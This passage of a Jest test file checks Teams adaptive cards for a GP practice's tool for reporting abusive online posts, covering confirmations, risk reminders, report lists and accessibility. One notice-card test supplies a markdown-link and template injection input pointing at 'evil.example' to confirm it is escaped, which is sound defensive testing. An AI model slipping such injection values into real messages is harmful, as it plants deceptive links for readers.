  it('reference in large text, what happens next, do not reply, no inputs', () => {
    const card = submittedCard(incident(), { practiceName: PRACTICE });
    expect(problems(card)).toEqual([]);
    const ref = textBlocks(card).find((t) => t.text === 'PW-2026-0042');
    expect(ref).toMatchObject({ size: 'ExtraLarge', weight: 'Bolder' });
    const all = texts(card).join('\n');
    expect(all).toContain('Report received');
    expect(all).toMatch(/practice manager reviews your report and decides/);
    expect(all).toMatch(/You will be told the outcome/);
    const doNotReply = textBlocks(card).find((t) => t.text === 'Please do not reply to the post yourself.');
    expect(doNotReply).toMatchObject({ weight: 'Bolder' });
    expect(siblings(card, doNotReply!).list).toBe((body(card).find((c) => c.style === 'attention' && texts(c).includes('Please do not reply to the post yourself.')) as Json).items);
    expect(all).not.toContain('999');
    expect(all).not.toMatch(/support/i);
    expect(inputs(card)).toEqual([]);
    expect(actions(card).map((a) => [a.title, a.verb])).toEqual([
      ['My reports', VERBS.myReports],
      ['Report another post', VERBS.another],
    ]);
  });

  it('reminds of 999/101 when someone is at risk', () => {
    const card = submittedCard(incident({}, { risk: { atRisk: true } }), { practiceName: PRACTICE });
    expect(problems(card)).toEqual([]);
    expect(texts(card)).toContain('If anyone is in immediate danger, call 999 now. Otherwise call the police on 101.');
  });

  it.each([
    ['a named colleague', { ...FACTS.what, namedParties: ['colleagues'] as const }],
    ['a post naming staff', { ...FACTS.what, categories: ['names-staff'] as const }],
  ])('offers support (policy §7) when %s was targeted, with the practice support text escaped', (_, what) => {
    const card = submittedCard(incident({}, { what: { ...what, categories: [...what.categories], namedParties: [...what.namedParties] } }), {
      practiceName: PRACTICE,
      supportText: 'Call Lisa on 01709 000000 or see [the EAP](http://x.example)',
    });
    expect(problems(card)).toEqual([]);
    const all = texts(card).join('\n');
    expect(all).toMatch(/supports staff who are targeted online/);
    // The practice's own words, never another practice's policy.
    expect(texts(card).filter((t) => t !== PRACTICE).join('\n')).not.toMatch(/Wickersley|Millbrook|Cockhedge|Caergwrle/);
    expect(all).toContain('Call Lisa on 01709 000000 or see \\[the EAP\\](http://x.example)');
  });

  it('support without practice text still shows the policy line', () => {
    const card = submittedCard(incident({}, { what: { ...FACTS.what, namedParties: ['colleagues'] } }), { practiceName: PRACTICE });
    expect(problems(card)).toEqual([]);
    expect(texts(card)).toContain('The practice supports staff who are targeted online: you will get guidance and support throughout. Talk to the practice manager whenever you need to.');
  });
});

describe('cancelled card', () => {
  it('says the report was not sent and its answers and screenshots are deleted, and offers to start again', () => {
    const card = cancelledCard();
    expect(problems(card)).toEqual([]);
    expect(texts(card).join(' ')).toBe(
      'Report cancelled. It was not sent to the practice manager, and your answers and screenshots have been deleted.',
    );
    expect(actions(card).map((a) => [a.title, a.verb])).toEqual([['Start again', VERBS.start]]);
  });
});

describe('my reports card', () => {
  it('lists reference, UK date, platform and status, in the order given', () => {
    const list = [
      incident({ reference: 'PW-2026-0043', status: 'in-progress', reportedAt: '2026-07-01T13:05:00Z' }, { where: { ...FACTS.where, platform: 'nhs-website' } }),
      incident({ reference: 'PW-2026-0042', status: 'closed', reportedAt: '2026-01-15T09:30:00Z' }),
    ];
    const card = myReportsCard(list, { practiceName: PRACTICE });
    expect(problems(card)).toEqual([]);
    const all = texts(card);
    expect(all.filter((t) => t.startsWith('PW-'))).toEqual(['PW-2026-0043', 'PW-2026-0042']);
    expect(all).toContain('NHS website review, reported 1 Jul 2026, 14:05');
    expect(all).toContain('Facebook, reported 15 Jan 2026, 09:30');
    expect(all).toContain('Status: In progress');
    expect(all).toContain('Status: Closed');
    expect(actions(card).map((a) => [a.title, a.verb])).toEqual([['Report a post', VERBS.start]]);
  });

  it('says so when there are none', () => {
    const card = myReportsCard([], { practiceName: PRACTICE });
    expect(problems(card)).toEqual([]);
    expect(texts(card)).toContain('You have not reported any posts yet.');
    expect(JSON.stringify(card)).not.toContain('PW-');
  });

  it('50 incidents stay under 28 KB', () => {
    const card = myReportsCard(incidents(50), { practiceName: PRACTICE });
    expect(problems(card)).toEqual([]);
    expect(texts(card).filter((t) => t.startsWith('PW-'))).toHaveLength(50);
  });

  it('more than 50 are cut to the newest 50 and the card says so', () => {
    const card = myReportsCard(incidents(80), { practiceName: PRACTICE });
    expect(problems(card)).toEqual([]);
    expect(texts(card).filter((t) => t.startsWith('PW-'))).toHaveLength(50);
    expect(texts(card)).toContain('Your 50 most recent reports, newest first.');
  });
});

describe('notice card', () => {
  it('shows a plain message with its actions', () => {
    const card = noticeCard('Already sent', 'That report was already sent: PW-2026-0042', [
      { title: 'My reports', verb: VERBS.myReports },
      { title: 'Carry on', verb: VERBS.next, data: { draftId: 'd1', step: 'where' } },
    ]);
    expect(problems(card)).toEqual([]);
    expect(texts(card)).toEqual(['Already sent', 'That report was already sent: PW-2026-0042']);
    expect(actions(card).map((a) => [a.title, a.verb, a.data])).toEqual([
      ['My reports', VERBS.myReports, {}],
      ['Carry on', VERBS.next, { draftId: 'd1', step: 'where' }],
    ]);
  });

  it('works with no actions, and escapes its text', () => {
    const card = noticeCard('# Hi', 'See [this](http://evil.example) ${x}');
    expect(problems(card, { userText: ['See [this](http://evil.example) ${x}'] })).toEqual([]);
    expect(actions(card)).toEqual([]);
    expect(texts(card)).toEqual(['\\# Hi', 'See \\[this\\](http://evil.example) ${x}']);
  });
});

// ---- the reporter's cards on a phone (issue 13) -------------------------------------------------------

describe("the reporter's cards on a phone", () => {
  const REPORTER_SAMPLES = ['reportWhere', 'reportWhat', 'reportRisk', 'reportEvidence', 'reportReview', 'reportSubmitted', 'reportCancelled', 'myReports', 'notice', 'reporterQuestion', 'reporterUpdate', 'reporterView'] as const;

  it.each(REPORTER_SAMPLES)('%s: every text holds 4.5:1 in Teams light, dark and high contrast', (name) => {
    expect(contrastFailures(SAMPLES[name]())).toEqual([]);
  });

  it("the reporter's view and question cards: an error under a task or an answer keeps 4.5:1, and '(required)' is said once, with no isRequired", () => {
    const withErrors = [
      reporterViewCard(
        incident({
          status: 'in-progress',
          handling: { version: 4, tasks: [{ id: 't1', actionId: 'public-reply', title: 'Post the approved reply', owner: { aadObjectId: 'aad-1', name: 'Sam Reception' }, status: 'open', dueAt: '2026-11-03T19:20:00Z' }] },
        }),
        { practiceName: PRACTICE, told: [], viewerAadObjectId: 'aad-1', errors: { outcome_t1: 'Say what happened.' }, notice: { tone: 'attention', text: 'That could not be saved.' } },
      ),
      reporterQuestionCard(incident(), { askedBy: { aadObjectId: 'aad-m', name: 'Pat Manager' }, askedAt: '2026-11-03T15:00:00Z', question: 'Did you see who posted it?' }, { practiceName: PRACTICE, error: 'Write your answer.' }),
    ];
    for (const card of withErrors) {
      expect(JSON.stringify(card)).toMatch(/Say what happened\.|Write your answer\./);
      expect(contrastFailures(card)).toEqual([]);
      expect(problems(card)).toEqual([]);
      for (const input of inputs(card)) {
        expect(input).not.toHaveProperty('isRequired');
        expect(String(input.label).split('(required)').length).toBeLessThanOrEqual(2);
      }
    }
  });

  it.each(STEPS.filter((s) => s !== 'review'))('%s: required answers say "(required)" once, in the label; Teams adds no asterisk and Back sends what was typed', (step) => {
    const card = reportStepCard(draftAt(step), { practiceName: PRACTICE });
    for (const input of inputs(card)) {
      expect(input.isRequired).toBeUndefined();
      expect(String(input.label).split('(required)').length).toBeLessThanOrEqual(2);
    }
    const back = actions(card).find((a) => a.title === 'Back');
    if (back) expect(back.associatedInputs).toBeUndefined();
  });

  it('Edit from the review card comes back with "Save", a new report with "Next"', () => {
    const editing = { ...draftAt('what'), editingFromReview: true };
    expect(actions(reportStepCard(editing, { practiceName: PRACTICE })).map((a) => a.title)).toContain('Save');
    expect(actions(reportStepCard(draftAt('what'), { practiceName: PRACTICE })).map((a) => a.title)).toEqual(expect.arrayContaining(['Next', 'Back', 'Cancel']));
  });

  it('the risk card asks Yes or No as the answer to its question, before the free-text box, apart from Back and Cancel', () => {
    const card = reportStepCard(draftAt('risk', { ...GOOD_ANSWERS, atRisk: '' }), { practiceName: PRACTICE });
    const question = body(card).find((e) => e.id === 'risk-question')!;
    expect(question).toMatchObject({ type: 'Container', style: 'emphasis' });
    expect(texts(question)[0]).toBe('Does anyone feel at risk of harm?');
    expect(actions(question).map((a) => a.title)).toEqual(['Yes', 'No']);
    expect(body(card).indexOf(question)).toBeLessThan(body(card).findIndex((e) => e.id === 'riskDetails'));
    expect((card.actions as Json[]).map((a) => a.title)).toEqual(['Back', 'Cancel']);
  });

  it('the time seen is an Input.Time; the no-screenshot reason shows on several lines', () => {
    expect(inputById(reportStepCard(draftAt('where'), { practiceName: PRACTICE }), 'seenTime')).toMatchObject({ type: 'Input.Time' });
    expect(inputById(reportStepCard(draftAt('evidence', GOOD_ANSWERS, []), { practiceName: PRACTICE }), 'noScreenshotReason')).toMatchObject({ isMultiline: true });
  });

  it('a long link wraps on the review card (a break after each "/"), and reads the same', () => {
    const url = 'https://www.facebook.com/groups/averyveryverylonggroupname/posts/1234567890123456789?comment_id=987654321';
    const card = reportStepCard(draftAt('review', { ...GOOD_ANSWERS, postUrl: url }), { practiceName: PRACTICE });
    const shown = strings(card).find((s) => s.replace(/\u200b/g, '') === plainText(url))!;
    expect(shown).toBeDefined();
    expect(shown).toContain('/\u200bgroups/\u200b');
  });

  it('"my reports" reads at the normal text size', () => {
    expect(textBlocks(myReportsCard(incidents(3), { practiceName: PRACTICE })).filter((t) => t.size === 'Small')).toEqual([]);
  });
});
